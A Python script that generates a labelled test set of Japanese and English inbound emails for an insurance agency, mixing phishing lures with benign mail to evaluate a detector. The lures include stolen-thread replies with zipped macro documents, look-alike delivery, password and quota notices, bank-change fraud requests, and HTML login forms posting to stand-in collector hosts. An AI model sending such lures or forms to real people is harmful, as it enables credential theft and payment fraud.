#!/usr/bin/env python3
# gen.py - write the third held-out inbound lure set (messages/*.eml, labels.tsv).
# Deterministic: the same files on every run.  Firms, people and hosts are
# invented (.example, documentation addresses) except the public brands the
# references say lures imitate.  Labels name the indicators each message
# contains (sender, links, text, attachments), decided from the message
# before any scan; they are not a verdict.

import base64
import io
import os
import zipfile
from email.header import Header

HERE = os.path.dirname(os.path.abspath(__file__))
FIRM = 'minatobashi-ins.example'
TO = 'eigyo@' + FIRM


def b64(data):
    if isinstance(data, str):
        data = data.encode('utf-8')
    return base64.encodebytes(data).decode('ascii')


def zipped(inner, payload):
    """zipped - a small zip archive with fixed timestamps."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w') as z:
        zi = zipfile.ZipInfo(inner, date_time=(2026, 12, 7, 9, 0, 0))
        z.writestr(zi, payload)
    return buf.getvalue()


def addr(display, mail):
    return '%s <%s>' % (Header(display, 'utf-8').encode(), mail) if display else mail


M = []


def add(cls, labels, note, frm, subject, text, html=None, atts=(), args='-', to=TO, extra=''):
    n = sum(1 for m in M if m['name'].startswith(cls + '-')) + 1
    M.append(dict(name='%s-%02d.eml' % (cls, n), labels=labels, note=note, frm=frm,
                  subject=subject, text=text, html=html, atts=list(atts), args=args,
                  to=to, extra=extra))


def render(i, m):
    hdr = ('From: %s\nTo: %s\nSubject: %s\nDate: Mon, 7 Dec 2026 %02d:%02d:00 +0900\n'
           'Message-ID: <h3l-%s@mx.invalid>\nMIME-Version: 1.0\n%s' %
           (addr(*m['frm']), m['to'], Header(m['subject'], 'utf-8').encode(),
            8 + i % 10, (i * 7) % 60, m['name'][:-4], m['extra']))
    cs = 'utf-8'
    textpart = ('Content-Type: text/plain; charset=%s\nContent-Transfer-Encoding: base64\n\n%s'
                % (cs, b64(m['text'])))
    if m['html'] is not None:
        body = ('Content-Type: multipart/alternative; boundary="=_a%d"\n\n--=_a%d\n%s\n'
                '--=_a%d\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n%s\n--=_a%d--\n'
                % (i, i, textpart, i, b64(m['html']), i))
    else:
        body = textpart
    if not m['atts']:
        return hdr + body
    out = hdr + 'Content-Type: multipart/mixed; boundary="=_m%d"\n\n--=_m%d\n%s\n' % (i, i, body)
    for fname, ctype, data in m['atts']:
        out += ('--=_m%d\nContent-Type: %s; name="%s"\nContent-Disposition: attachment; filename="%s"\n'
                'Content-Transfer-Encoding: base64\n\n%s\n' % (i, ctype, fname, fname, b64(data)))
    return out + '--=_m%d--\n' % i


def quote_jp(frm, date, subj, text):
    return '\n\n-----Original Message-----\nFrom: %s\nSent: %s\nTo: 営業二課\nSubject: %s\n\n%s' % (frm, date, subj, text)


def login_form(action, title, extra=''):
    return ('<html><head><meta charset="utf-8"><title>%s</title></head><body>\n<h3>%s</h3>\n'
            '<form method="post" action="%s">\nメールアドレス <input type="email" name="u" value="eigyo@%s"><br>\n'
            'パスワード <input type="password" name="p"><br>\n<input type="submit" value="ログイン">\n</form>%s\n</body></html>\n'
            % (title, title, action, FIRM, extra))


MACRO = b'PK-fake-office-document-with-macro: AutoOpen Shell powershell -enc SQBFAFgA'

# ---- lures: Emotet-style replies to a stolen thread --------------------------
add('lure-emo', 'attack.signature_mismatch,attack.theme', 'reply to a stolen thread from an unrelated domain, replaced document in a zip, partner signature kept',
    ('稲垣 聡', 'inagaki@ryokuyo-kogyo.example'), 'RE: 代理店会議の資料',
    '差し替えた資料をお送りします。\nパスワード：Kaigi1207\n\n東邦海上火災保険株式会社 横浜支店\n稲垣 聡 inagaki.s@tohokaijo.example\n'
    + quote_jp('桐生 颯太', 'Friday, December 4, 2026 5:30 PM', '代理店会議の資料', '資料の件、承知しました。'),
    atts=[('資料_1207.zip', 'application/zip', zipped('資料_1207.xlsm', MACRO))])
add('lure-emo', 'attack.signature_mismatch,attack.theme', 'English reply with an invoice macro workbook, reinsurer signature, unrelated sender',
    ('Jan Bakker', 'jbakker@vermeulen-logistics.example'), 'Re: Renewal terms',
    'Hello,\n\nPlease review the attached invoice and confirm payment today.\n\nJan Bakker\nNorthsea Re Tokyo Branch\nj.bakker@northsea-re.example\n\n> Thank you, the terms are acceptable.\n',
    atts=[('Invoice_20261207.zip', 'application/zip', zipped('Invoice_20261207.xlsm', MACRO))])
add('lure-emo', 'attack.freemail_sender,attack.signature_mismatch,attack.theme', 'colleague name from a free-mail address, own-firm signature, 請求書 zip',
    ('大槻 美緒', 'otsuki.mio.1207@gmail.com'), 'Re: 11月分請求書',
    'お疲れ様です。請求書を添付します。ご確認ください。\nパスワードは 3390 です。\n\nみなと橋保険サービス 大槻\notsuki@minatobashi-ins.example\n',
    atts=[('請求書.zip', 'application/zip', zipped('請求書.doc', MACRO))])
add('lure-emo', 'attack.signature_mismatch,attack.theme', '議事録 from a compromised supplier-looking mailbox with another signature',
    ('北斗印刷 仁藤', 'nito@shinwa-denki.example'), 'RE: 打合せ議事録',
    '先日の打合せ議事録を送付いたします。\n北斗印刷株式会社 営業部 仁藤 nito@hokuto-print.example\n'
    + quote_jp('大槻 美緒', '2026年12月3日 10:41', '見積依頼', '見積書を受領しました。'),
    atts=[('議事録_1203.zip', 'application/zip', zipped('議事録_1203.docm', MACRO))])
add('lure-emo', '-', 'reply with only the quoted thread and a zip; no indicator the set covers',
    ('仁藤 敏之', 'nito@kawashima-seiki.example'), 'RE: 見積依頼',
    '添付ファイルをご確認ください。\nPW: 5520\n\n> 承知しました。月曜に回答します。\n',
    atts=[('file_5520.zip', 'application/zip', zipped('file_5520.xls', MACRO))])

# ---- lures: fake delivery notices --------------------------------------------
add('lure-dlv', 'attack.url_mismatch,attack.lookalike_url,attack.theme', 'Sagawa redelivery, anchor shows the real site, link to a look-alike host',
    ('佐川急便', 'info@sgw-notice.example'), '【佐川急便】お荷物お届けのお知らせ（不在）',
    'お客様宛にお荷物のお届けに上がりましたが、ご不在のため持ち帰りました。\n再配達のご依頼：https://www.sagawa-exp.co.jp/\n',
    html='<p>お客様宛にお荷物のお届けに上がりましたが、ご不在のため持ち帰りました。</p>'
         '<p>再配達のご依頼：<a href="https://sagawa-exp.co.jp.redeliv-check.top/track">https://www.sagawa-exp.co.jp/</a></p>')
add('lure-dlv', 'attack.lookalike_url,attack.theme', 'Japan Post parcel in plain text with a look-alike host',
    ('日本郵便', 'noreply@yubin-info.example'), '【日本郵便】ゆうパック 配達状況についてのお知らせ',
    '住所不備のためお荷物をお届けできませんでした。\n下記より住所の確認をお願いします。\nhttps://japanpost-jp.redelivery-cn.xyz/confirm\n')
add('lure-dlv', 'attack.lookalike_url,attack.theme', 'English DHL customs fee notice',
    ('DHL Express', 'support@dhl-notify.example'), 'DHL: Your shipment is on hold',
    'Dear customer,\nYour parcel AWB 7741 0093 21 is on hold due to unpaid customs duties (JPY 230).\nPay now: https://dhl-express-track.shop/pay\n')
add('lure-dlv', 'attack.freemail_sender,attack.lookalike_url,attack.theme', 'Yamato-looking notice from a free-mail sender',
    ('ヤマト運輸', 'yamato.center.jp@outlook.com'), 'お届け予定のお知らせ',
    'クロネコヤマトです。お荷物のお届け予定日時が確定しました。日時変更はこちら\nhttps://kuronekoyamato.delivery-jp.icu/change\n')
add('lure-dlv', 'attack.credential_request,attack.theme', 'English FedEx notice with an HTML attachment asking for the mailbox password',
    ('FedEx', 'tracking@fdx-shipping.example'), 'Shipping documents - action required',
    'Please open the attached shipping documents and sign in with your e-mail to release the parcel.\n',
    atts=[('Shipping_Documents.html', 'text/html', login_form('https://doc-view.example-cdn.top/fx.php', 'FedEx Document Viewer'))])

# ---- lures: mailbox quota ------------------------------------------------------
add('lure-quota', 'attack.lookalike_url,attack.credential_request,attack.theme', 'quota warning linking to a look-alike of the firm domain',
    ('メール管理センター', 'admin@minatobashi-ins-mail.example'), '【重要】メールボックス容量超過のお知らせ',
    'eigyo@minatobashi-ins.example のメールボックス容量が上限（99%）に達しました。\n24時間以内にログインして容量を拡張しないと受信が停止されます。\nhttps://minatobashi-ins-mail.example/owa/login\nID とパスワードを入力してください。\n')
add('lure-quota', 'attack.url_mismatch,attack.credential_request,attack.theme', 'English quota notice, anchor shows the firm webmail, link elsewhere',
    ('Mail Administrator', 'postmaster@mx-quota.example'), 'Your mailbox is 98% full',
    'Your mailbox has exceeded its storage limit. Sign in with your password to increase the quota: https://mail.minatobashi-ins.example/quota\n',
    html='<p>Your mailbox has exceeded its storage limit. Sign in with your password to increase the quota:</p>'
         '<p><a href="https://webmail-upgrade.sbs/mnb/index.php">https://mail.minatobashi-ins.example/quota</a></p>')
add('lure-quota', 'attack.credential_request,attack.theme', 'quota notice with an HTML attachment that holds a login form',
    ('システム管理', 'system@storage-alert.example'), 'メール容量が不足しています',
    '容量不足のため一部のメールが保留されています。添付ファイルを開き、認証を行ってください。\n',
    atts=[('Quota_Notice.htm', 'text/html', login_form('https://collector.storage-alert.top/p.php', 'メールボックス認証'))])
add('lure-quota', 'attack.spoofed_internal,attack.credential_request,attack.theme', 'own domain as sender from an outside client, quota and password',
    ('システム管理者', 'admin@' + FIRM), 'メールボックスの容量について',
    'メールボックスの容量が上限に達しています。以下からアカウントのパスワードを再入力してください。\nhttps://mnb-mailbox.page.example-host.top/verify\n',
    args='--client 203.0.113.45')
add('lure-quota', 'attack.lookalike_url,attack.credential_request,attack.theme', 'quota notice linking to a raw IP address',
    ('IT Helpdesk', 'helpdesk@it-support-center.example'), 'メールボックス容量警告',
    '受信箱が満杯です。http://198.51.100.23/owa/ からユーザーIDとパスワードでサインインしてください。\n')

# ---- lures: password expiry ----------------------------------------------------
add('lure-pw', 'attack.lookalike_url,attack.credential_request,attack.theme', 'password expiry with a digit/letter look-alike of the firm',
    ('Microsoft 365', 'no-reply@ms365-alert.example'), 'パスワードの有効期限が本日切れます',
    '現在のパスワードは本日有効期限が切れます。同じパスワードを維持するには以下からサインインしてください。\nhttps://login.minatobashl-ins.example/keep\n')
add('lure-pw', 'attack.url_mismatch,attack.credential_request,attack.theme', 'English password expiry, anchor shows microsoft.com',
    ('IT Service Desk', 'desk@passreset-mail.example'), 'Password expires in 24 hours',
    'Your password will expire in 24 hours. Keep your current password: https://account.microsoft.com/\n',
    html='<p>Your password will expire in 24 hours.</p><p>Keep your current password: '
         '<a href="https://keep-password.example-host.top/login">https://account.microsoft.com/</a></p>')
add('lure-pw', 'attack.credential_request,attack.theme', 'HTML attachment whose login form is written by JavaScript from a base64 string',
    ('パスワード管理', 'security@pw-expire.example'), 'パスワード更新のお願い',
    'パスワードの有効期限が近づいています。添付ファイルから更新してください。\n',
    atts=[('Password_Update.html', 'text/html',
           '<html><body><script>document.write(atob("%s"));</script></body></html>\n'
           % base64.b64encode(login_form('https://pw-renew.example-cdn.top/r.php', 'パスワード更新').encode('utf-8')).decode('ascii'))])
add('lure-pw', 'attack.spoofed_internal,attack.lookalike_url,attack.credential_request,attack.theme', 'own-domain sender from an outside client asking to reset the password on a host carrying the firm name',
    ('情報システム担当', 'it@' + FIRM), '【至急】パスワード変更のお願い',
    'セキュリティ強化のため、本日中にパスワードを変更してください。現在のパスワードと新しいパスワードを下記フォームに入力してください。\nhttps://forms.minatobashi-pw.example/change\n',
    args='--client 198.51.100.77')

# ---- lures: account verification -----------------------------------------------
add('lure-acct', 'attack.lookalike_url,attack.credential_request,attack.theme', "insurer's agent-system account check on a look-alike host",
    ('東邦海上 代理店システム', 'agent@tohokaijo-support.example'), '【東邦海上】代理店システム アカウント確認のお願い',
    '不正アクセス防止のため、代理店コードとパスワードの再登録をお願いします。\nhttps://tohokaijo-agent.verify-id.top/login\n')
add('lure-acct', 'attack.lookalike_url,attack.credential_request,attack.theme', 'Amazon-looking account suspension',
    ('Amazon.co.jp', 'account-update@amzn-info.example'), 'アカウントを一時停止しました',
    'お支払い情報に問題があったため、アカウントを一時停止しました。ログインして情報を更新してください。\nhttps://amazon-co-jp.account-lock.info/signin\n')
add('lure-acct', 'attack.lookalike_url,attack.credential_request,attack.theme', 'card-company identity check',
    ('三井住友カード', 'info@vpass-notice.example'), '【重要】ご利用確認のお願い',
    '第三者による不正利用の可能性があります。ログインID・パスワードを入力してご本人確認をお願いします。\nhttps://smbc-card.jp-secure-check.top/vpass\n')
add('lure-acct', 'attack.lookalike_url,attack.credential_request,attack.theme', 'life insurer look-alike with 1 for l',
    ('あおば生命', 'notice@aoba-1ife.example'), '代理店ポータル 本人確認',
    'ポータルのアカウント情報を確認するため、以下よりログインしてください。\nhttps://portal.aoba-1ife.example/agent\n')

# ---- lures: fake invoices and payment changes -------------------------------------
add('lure-pay', 'attack.signature_mismatch,attack.theme', 'reinsurer look-alike domain asking to change the bank account',
    ('Jan Bakker', 'j.bakker@northsea-re-jp.example'), '振込先口座変更のお願い / Change of bank details',
    '平素よりお世話になっております。監査の都合により、今月から振込先口座を変更いたします。新口座は添付の通知書をご確認ください。\n\nJan Bakker\nNorthsea Re Tokyo Branch\nj.bakker@northsea-re.example\n')
add('lure-pay', 'attack.freemail_sender,attack.signature_mismatch,attack.theme', 'supplier name from a free-mail address, account change',
    ('北斗印刷 経理部', 'hokuto.print.keiri@gmail.com'), '【北斗印刷】お振込先変更のご連絡',
    '弊社メールサーバ障害のため、個人アドレスより失礼いたします。\n12月分より下記口座へお振込みをお願いいたします。\nさくら国際銀行 香港支店 普通 8820144\n\n北斗印刷株式会社 経理部 keiri@hokuto-print.example\n')
add('lure-pay', 'attack.url_mismatch,attack.lookalike_url,attack.theme', 'English e-sign invoice, anchor shows docusign.net',
    ('DocuSign', 'dse@esign-invoice.example'), 'Invoice #INV-40871 awaiting your signature',
    'Please review and sign: https://www.docusign.net/\n',
    html='<p>You have received an invoice to review and sign.</p>'
         '<p><a href="https://docusign-invoice.review-doc.top/INV-40871">https://www.docusign.net/</a></p>')
add('lure-pay', 'attack.freemail_sender,attack.theme', 'invoice zip from a yahoo.co.jp address',
    ('経理担当', 'seikyu_tanto2026@yahoo.co.jp'), '請求書の送付',
    '12月分の請求書を送付します。お支払いは今週中にお願いします。\n',
    atts=[('seikyusho.zip', 'application/zip', zipped('seikyusho.xlsm', MACRO))])
add('lure-pay', 'attack.credential_request,attack.theme', 'payment notice with an HTML attachment asking to sign in to view',
    ('Accounts Payable', 'ap@globalpay-remit.example'), 'Payment advice: remittance copy',
    'Attached is your remittance advice. Sign in with your e-mail password to view it.\n',
    atts=[('Remittance_Advice.html', 'text/html', login_form('https://remit-view.example-cdn.top/a.php', 'Remittance Viewer'))])

# ---- lures: all-Chinese mail ------------------------------------------------------
add('lure-zh', 'attack.non_japanese_kanji', 'simplified Chinese invoice spam from an unrelated domain',
    ('王经理', 'wang@fapiao-daikai.example'), '代开各类发票',
    '您好！本公司长期代开增值税发票，税点优惠，可先验票后付款。联系电话：138 0013 8000 王经理\n')
add('lure-zh', 'attack.non_japanese_kanji,attack.credential_request,attack.theme', 'Chinese mailbox-full notice with a login link',
    ('邮箱管理员', 'admin@mail-guanli.example'), '您的邮箱空间已满',
    '尊敬的用户：您的邮箱存储空间已满，新邮件将被退回。请立即点击下面链接登录并输入密码进行扩容。\nhttp://mail-kuorong.example-host.top/login\n')
add('lure-zh', 'attack.non_japanese_kanji,attack.lookalike_url,attack.theme', 'traditional Chinese parcel notice on a carrier look-alike host',
    ('順豐速運', 'service@sf-notice.example'), '您的包裹無法投遞',
    '親愛的客戶，您的包裹因地址不詳無法投遞，請於48小時內更新收件資訊，逾期將退回寄件人。\nhttps://sf-express.parcel-tw.top/update\n')
add('lure-zh', 'attack.freemail_sender,attack.non_japanese_kanji', 'Chinese business offer from a free-mail address',
    ('李明', 'liming_trade88@163.com'), '合作洽谈',
    '贵公司好，我司是专业的外贸公司，希望与贵公司建立长期合作关系。详情请查看附件报价单。\n',
    atts=[('报价单.zip', 'application/zip', zipped('报价单.exe', b'MZ\x90\x00fake'))])

# ---- lures: other classic themes ----------------------------------------------------
add('lure-misc', 'attack.url_mismatch,attack.theme', 'survey request, anchor shows the firm site, link elsewhere',
    ('顧客満足度調査事務局', 'survey@cs-research.example'), 'アンケートご協力のお願い',
    '保険代理店様向けアンケートにご協力ください（所要3分）。https://www.minatobashi-ins.example/survey\n',
    html='<p>保険代理店様向けアンケートにご協力ください（所要3分）。</p>'
         '<p><a href="https://enquete-form.example-host.top/q?id=mnb">https://www.minatobashi-ins.example/survey</a></p>')
add('lure-misc', 'attack.freemail_sender,attack.theme', 'press interview request from free mail with a document',
    ('週刊ほけん 記者 森', 'mori.kisha.weekly@gmail.com'), '取材のお願い',
    '保険代理店の働き方について取材をお願いしたく、企画書をお送りします。ご確認ください。\n',
    atts=[('企画書.zip', 'application/zip', zipped('企画書.docm', MACRO))])
add('lure-misc', 'attack.freemail_sender,attack.theme', 'CV from a job applicant with a zip',
    ('応募者 佐伯', 'saeki.job2026@yahoo.co.jp'), '履歴書送付の件',
    '求人を拝見し応募いたします。履歴書を添付いたしますのでご査収ください。\n',
    atts=[('履歴書.zip', 'application/zip', zipped('履歴書.pdf.exe', b'MZ\x90\x00fake'))])
add('lure-misc', 'attack.lookalike_url,attack.theme', 'English airline booking confirmation on a look-alike host',
    ('ANA Reservations', 'booking@ana-reserve-mail.example'), 'Your e-ticket itinerary receipt',
    'Thank you for booking. View or cancel your reservation: https://ana-co-jp.booking-confirm.top/itinerary\n')
add('lure-misc', 'attack.freemail_sender,attack.signature_mismatch,attack.theme', 'insurer staff name from free mail sending replaced contract papers',
    ('東邦海上 稲垣', 'inagaki.toho@gmail.com'), '契約書類差替えのお願い',
    '会社のメールが不調のため個人アドレスから失礼します。契約書類を差し替えましたので、添付をご確認ください。\n東邦海上火災保険 横浜支店 稲垣 聡 inagaki.s@tohokaijo.example\n',
    atts=[('契約書類.zip', 'application/zip', zipped('契約書類.xlsm', MACRO))])
add('lure-misc', 'attack.url_mismatch,attack.theme', 'personnel notice, anchor shows an internal-looking URL, link to another host',
    ('人事部', 'jinji@hr-bulletin.example'), '【社内限】人事異動のお知らせ',
    '来期の人事異動一覧を掲載しました。https://intra.minatobashi-ins.example/jinji\n',
    html='<p>来期の人事異動一覧を掲載しました。</p><p><a href="https://hr-list.example-storage.top/jinji.php">https://intra.minatobashi-ins.example/jinji</a></p>')

# ---- benign: partners -----------------------------------------------------------
SIG_T = '\n--\n東邦海上火災保険株式会社 横浜支店\n稲垣 聡\nTEL 045-222-8810\ninagaki.s@tohokaijo.example\n'
add('ok-partner', '-', 'insurer staff proposing meeting dates', ('稲垣 聡', 'inagaki.s@tohokaijo.example'), '打合せ日程のご相談',
    'みなと橋保険サービス 桐生様\n\n来週の打合せですが、15日(火)14時か16日(水)10時でいかがでしょうか。' + SIG_T)
add('ok-partner', '-', 'insurer asking for the renewal list', ('稲垣 聡', 'inagaki.s@tohokaijo.example'), '2月満期 更改リストのご送付依頼',
    '2月満期分の更改状況を今月末までにお知らせください。様式は従来どおりです。' + SIG_T)
add('ok-partner', '-', 'insurer link whose text and target agree (agent portal)', ('東邦海上 代理店サポート', 'agent-support@tohokaijo.example'), '手数料明細掲載のお知らせ',
    '11月分の手数料明細を代理店システムに掲載しました。\nhttps://agent.tohokaijo.example/fee\n',
    html='<p>11月分の手数料明細を代理店システムに掲載しました。</p><p><a href="https://agent.tohokaijo.example/fee">https://agent.tohokaijo.example/fee</a></p>')
add('ok-partner', '-', 'life insurer training notice', ('あおば生命 研修担当', 'kenshu@aoba-life.example'), '1月研修のご案内',
    '1月研修は 1/21(木) 13:00 から、会場はあおば生命 横浜ビル 5F です。出欠を12/18までにご返信ください。\n--\n株式会社あおば生命保険 研修課\nkenshu@aoba-life.example\n')
add('ok-partner', '-', 'printer sending a proof link on its own domain', ('北斗印刷 仁藤', 'nito@hokuto-print.example'), 'カレンダー校正のご確認',
    '校正データを下記にアップしました。https://proof.hokuto-print.example/mnb/2027cal\nご確認のほどお願いいたします。\n--\n北斗印刷株式会社 営業部 仁藤 敏之\nnito@hokuto-print.example\n')
add('ok-partner', '-', 'reinsurer English mail', ('Jan Bakker', 'j.bakker@northsea-re.example'), 'Renewal terms',
    'Dear Ms Takasu,\n\nPlease see the renewal terms for 2027 in our portal as discussed.\n\nBest regards,\nJan Bakker\nNorthsea Re Tokyo Branch\nj.bakker@northsea-re.example\n')
add('ok-partner', '-', 'insurer claim status update', ('事故受付センター', 'claim-yokohama@tohokaijo.example'), '事故対応状況のご報告',
    'ご依頼の事故案件（受付番号 Y-2611-0387）は修理工場の見積待ちです。進展があり次第ご連絡します。\n--\n東邦海上 横浜損害サービス課\n')
add('ok-partner', '-', 'year-end greeting from an insurer branch', ('東邦海上 横浜支店', 'yokohama@tohokaijo.example'), '年末のご挨拶',
    '本年も格別のご高配を賜り誠にありがとうございました。来年も変わらぬご愛顧のほどお願い申し上げます。\n--\n東邦海上火災保険株式会社 横浜支店\n')
add('ok-partner', '-', 'printer delivery schedule reply', ('北斗印刷 仁藤', 'nito@hokuto-print.example'), 'Re: 名入れカレンダー発注',
    'ご発注ありがとうございます。12月18日午前着で手配いたしました。\n--\n北斗印刷株式会社 営業部 仁藤\nnito@hokuto-print.example\n'
    + quote_jp('大槻 美緒', '2026年12月7日 9:15', '名入れカレンダー発注', '下記のとおり発注いたします。'))

# ---- benign: Chinese-language mail from a declared partner ---------------------------
SIG_H = '\n--\n上海海韵贸易有限公司 销售部\n陈静\nchen.jing@haiyun-trade.example\n'
add('ok-zh', '-', 'Chinese quotation from a declared partner', ('陈静', 'chen.jing@haiyun-trade.example'), '关于毛巾样品的报价',
    '您好！附件是贵公司询价的毛巾样品报价，交货期约三周。如有问题请随时联系。' + SIG_H)
add('ok-zh', '-', 'Chinese shipping update from a declared partner', ('陈静', 'chen.jing@haiyun-trade.example'), '发货通知',
    '您好，贵公司订购的五百条毛巾已于今日发货，预计十二月十五日到达横滨港。' + SIG_H)
add('ok-zh', '-', 'Chinese new-year greeting from a declared partner', ('海韵贸易', 'info@haiyun-trade.example'), '新年快乐',
    '感谢贵公司一年来的支持与合作，祝新年快乐，万事如意！' + SIG_H)

# ---- benign: newsletters with tracking links ---------------------------------------------
add('ok-news', '-', 'industry newspaper newsletter with tracking redirects', ('保険業界新聞', 'news@hoken-shimbun.example'), '保険業界新聞 メールマガジン 12/7号',
    '■今週の注目記事\n代理店手数料体系の見直しが進む\n▼記事を読む\nhttps://trk.hoken-shimbun.example/r?id=88120&u=a91\n配信停止：https://hoken-shimbun.example/unsub\n',
    html='<p>■今週の注目記事<br>代理店手数料体系の見直しが進む</p><p><a href="https://trk.hoken-shimbun.example/r?id=88120&amp;u=a91">記事を読む</a></p>'
         '<p><a href="https://hoken-shimbun.example/unsub">配信停止</a></p>')
add('ok-news', '-', 'insurer newsletter via its click-tracking subdomain', ('あおば生命 代理店通信', 'letter@aoba-life.example'), 'あおば代理店通信 Vol.118',
    '新商品「あおばケア」の研修動画を公開しました。\n',
    html='<p>新商品「あおばケア」の研修動画を公開しました。</p><p><a href="https://click.aoba-life.example/c/7Hk2Pq">動画を見る</a></p>')
add('ok-news', '-', 'association seminar newsletter via an ESP', ('日本保険代理店協会', 'seminar@hoken-dairiten-kyokai.example'), 'セミナー開催のご案内',
    '1月のコンプライアンスセミナーのお申し込みを受け付けています。\n',
    html='<p>1月のコンプライアンスセミナーのお申し込みを受け付けています。</p>'
         '<p><a href="https://links.esp-mailer.example/ls/click?upn=Zx81kQ">お申し込みはこちら</a></p>')
add('ok-news', '-', 'English newsletter from a software vendor', ('Ledgerline News', 'news@ledgerline.example'), 'Ledgerline December update',
    'New in December: bulk export and faster search.\nRead more: https://ledgerline.example/blog/december\n',
    html='<p>New in December: bulk export and faster search.</p><p><a href="https://email.ledgerline.example/t/abc123">Read more</a></p>')
add('ok-news', '-', 'printer promotional mail with product links', ('北斗印刷', 'info@hokuto-print.example'), '年賀状印刷 早割のご案内',
    '12月15日までのご注文で20%引き。https://www.hokuto-print.example/nenga\n')

# ---- benign: the firm's own systems (internal sender, no outside client) ---------------------
add('ok-own', '-', "legitimate password reset from the firm's own portal", ('みなと橋ポータル', 'noreply@' + FIRM), 'パスワード再設定のご案内',
    'パスワード再設定のリクエストを受け付けました。30分以内に以下のリンクから再設定してください。\nhttps://portal.minatobashi-ins.example/reset?t=4f1c\n心当たりがない場合はこのメールを破棄してください。\n')
add('ok-own', '-', "firm's own system: password expiry reminder", ('情報システム', 'it@' + FIRM), 'パスワード有効期限のお知らせ',
    '社内ポータルのパスワードは12月20日に有効期限を迎えます。ポータルにログインして変更してください。\nhttps://portal.minatobashi-ins.example/\n')
add('ok-own', '-', "firm's own backup report", ('NAS', 'nas@' + FIRM), '[NAS] バックアップ完了',
    '12/7 02:00 のバックアップが正常に完了しました。使用量 62%。\n')

# ---- benign: customers and others ------------------------------------------------------------
add('ok-misc', '-', 'customer question from a mobile-carrier mailbox', ('柳瀬 大和', 'yanase.y@docomo.ne.jp'), '車両入替の件',
    '来月車を買い替えるので、保険の手続きを教えてください。\n')
add('ok-misc', 'attack.freemail_sender', 'customer question from a free-mail address (indicator present, benign)', ('篠塚 千晴', 'chiharu.shino@gmail.com'), '満期案内について',
    '満期のお知らせが届きました。内容を変えずに更新したいのですが、どうすればよいでしょうか。\n')
add('ok-misc', '-', 'system vendor maintenance notice', ('ソフトウェアサポート', 'support@ledgerline.example'), '定期メンテナンスのお知らせ',
    '12月13日(日) 1:00-5:00 にサービスを停止します。ご不便をおかけします。\n')
add('ok-misc', '-', 'hotel confirming a party booking', ('ホテル本牧ベイ 宴会課', 'banquet@hotel-honmoku.example'), 'ご宴会予約確認',
    '12月22日(火) 18:30より 25名様 「潮騒」にてご予約を承りました。\n')
add('ok-misc', '-', 'accounting firm sending a schedule', ('税理士法人みらい会計', 'tax@mirai-kaikei.example'), '年末調整のスケジュール',
    '年末調整の資料は12月15日までにご提出ください。面談は12月18日を予定しています。\n')
add('ok-misc', '-', 'English conference invitation', ('Asia Insurance Forum', 'events@aif-conf.example'), 'Invitation: Asia Insurance Forum 2027',
    'We are pleased to invite you to the Asia Insurance Forum in Singapore on 10-11 March 2027.\nProgramme: https://aif-conf.example/2027\n')
add('ok-misc', '-', 'office supplies order confirmation', ('オフィス用品ネット', 'order@office-yohin.example'), 'ご注文ありがとうございます',
    'ご注文番号 OY-558120 を承りました。お届け予定：12月9日。\n')
add('ok-misc', '-', 'building management notice', ('みなと橋ビル管理', 'kanri@minatobashi-bldg.example'), '停電作業のお知らせ',
    '12月20日(日) 9:00-12:00 ビル全館で停電作業を行います。\n')
add('ok-misc', '-', 'bank branch visit reply from a real domain', ('みずなら銀行 本牧支店', 'honmoku@mizunara-bank.example'), '口座開設書類の件',
    'ご来店予約を12月10日 11時で承りました。法人の登記事項証明書をお持ちください。\n')
add('ok-misc', '-', 'reinsurer link text and target agree', ('Northsea Re', 'portal@northsea-re.example'), 'Portal document published',
    'A new treaty document is available: https://portal.northsea-re.example/docs/2027\n',
    html='<p>A new treaty document is available: <a href="https://portal.northsea-re.example/docs/2027">https://portal.northsea-re.example/docs/2027</a></p>')
add('ok-misc', '-', 'industry association survey result report (not a request)', ('日本保険代理店協会', 'info@hoken-dairiten-kyokai.example'), '会員実態調査 結果報告',
    '先般ご協力いただいた会員実態調査の結果を公表しました。https://hoken-dairiten-kyokai.example/report2026\n')

add('lure-misc', 'attack.freemail_sender,attack.signature_mismatch,attack.theme', 'reinsurer name from an outlook.com address asking for urgent payment',
    ('Jan Bakker', 'jan.bakker.northsea@outlook.com'), 'Urgent: outstanding premium payment',
    'Dear Ms Takasu,\nOur office e-mail is down. Please settle the outstanding premium today to the account in the attached advice.\n\nJan Bakker\nNorthsea Re Tokyo Branch\nj.bakker@northsea-re.example\n')
add('lure-dlv', 'attack.url_mismatch,attack.theme', 'English UPS notice, anchor shows ups.com, link elsewhere',
    ('UPS Quantum View', 'notify@ups-qv-mail.example'), 'UPS Delivery Notification: delivery attempt failed',
    'We attempted to deliver your package. Reschedule: https://www.ups.com/track\n',
    html='<p>We attempted to deliver your package.</p><p>Reschedule: <a href="https://parcel-reschedule.example-host.top/u/9921">https://www.ups.com/track</a></p>')
add('ok-zh', '-', 'Chinese catalogue notice from a declared partner', ('陈静', 'chen.jing@haiyun-trade.example'), '明年新产品目录',
    '您好，明年的新产品目录已经完成，下次拜访时带给贵公司。' + SIG_H)
add('ok-partner', '-', 'insurer sending a policy-terms PDF', ('あおば生命 商品部', 'shohin@aoba-life.example'), '約款改定のお知らせ',
    '2027年4月の約款改定について、新旧対照表を添付いたします。\n--\n株式会社あおば生命保険 商品部\n',
    atts=[('yakkan_2027.pdf', 'application/pdf', b'%PDF-1.4\n% placeholder\n%%EOF\n')])
add('ok-partner', '-', 'insurer reply quoting the earlier thread', ('稲垣 聡', 'inagaki.s@tohokaijo.example'), 'RE: 打合せ日程のご相談',
    '15日14時で承知しました。当日は資料を持参します。' + SIG_T
    + quote_jp('桐生 颯太', 'Monday, December 7, 2026 9:40 AM', '打合せ日程のご相談', '15日14時でお願いします。'))
add('ok-partner', '-', 'reinsurer meeting minutes link on its own domain', ('Jan Bakker', 'j.bakker@northsea-re.example'), 'Meeting notes 14 January',
    'Hello Rina,\nThe agenda is at https://portal.northsea-re.example/meetings/0114\nRegards,\nJan\n')
add('ok-own', '-', "firm's own system: new sign-in notice", ('みなと橋ポータル', 'noreply@' + FIRM), '新しい端末からのサインイン',
    '12月7日 8:12 に新しい端末からポータルへサインインがありました。心当たりがない場合は情報システム担当へ連絡してください。\n')
add('ok-misc', '-', 'customer from an au.com mailbox (not anonymous free mail)', ('宇佐美 香織', 'kaori.usami@au.com'), '住所変更について',
    '引っ越したので書類の送り先を変えたいです。電話してもいいですか。\n')
